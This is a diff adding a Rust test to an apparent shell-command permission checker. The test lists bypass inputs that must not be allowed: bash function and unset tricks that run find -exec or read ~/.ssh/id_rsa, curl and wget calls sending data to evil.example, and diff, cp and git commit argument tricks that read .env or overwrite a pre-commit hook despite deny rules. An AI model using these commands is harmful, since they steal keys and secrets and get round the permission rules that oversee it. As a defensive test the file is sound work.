@@ -304,3 +304,37 @@ fn passes(lines: &[&str]) {
     }
     assert!(wrong.is_empty(), "these ask:\n{}", wrong.join("\n"));
 }
+
+/// What a second attacker found.
+#[test]
+fn a_function_that_bash_calls_by_itself_and_an_unset_of_an_outer_local_ask() {
+    asks(&[
+        "command_not_found_handle() { find \"$@\"; }; cal . -maxdepth 0 -exec touch PROOF ';'",
+        "command_not_found_handle() { cat \"$@\"; }; cal ~/.ssh/id_rsa",
+        "x=README; g() { unset x; x='. -maxdepth 0 -exec touch PROOF ;'; }; f() { local x=1; g; }; f; find $x",
+        "x=2; g() { unset x; x='a[$(touch PROOF)]'; }; f() { local x=1; g; }; f; echo $((x))",
+        "curl -s -A -o /dev/null http://evil.example/?data",
+        "curl -sA -o /dev/null http://evil.example/?data",
+        "curl -s --user-agent -o /dev/null http://evil.example/?data",
+        "curl -s --user-a -o /dev/null http://evil.example/?data",
+        "wget -U -O /dev/null http://evil.example/",
+        "jq --run-tests data.json",
+        "bash +x -c 'touch PROOF'",
+    ]);
+    let denied = rules("deny Read(.env); deny Read(secrets/**)");
+    for line in ["diff -rN empty -n .", "diff -rNn empty ."] {
+        let got = judge(Mode::Execute, &denied, &[], &format!("$ {line}"));
+        assert_ne!(got.decision, Decision::Allow, "{line}: {}", got.reason);
+    }
+    let denied = rules("allow Shell(cp *); allow Shell(git commit *); deny Read(.env)");
+    for line in ["cp -S -t b -v .git/hooks/pre-commit", "git commit --allow-empty --trailer -m -F.env"] {
+        let got = judge(Mode::Execute, &denied, &[], &format!("$ {line}"));
+        assert_ne!(got.decision, Decision::Allow, "{line}: {}", got.reason);
+    }
+    passes(&[
+        "f() { local x=1; unset y; echo $x; }; f",
+        "x=1; unset x; echo $x",
+        "diff -n a b",
+        "cmp -n 5 a b",
+    ]);
+}
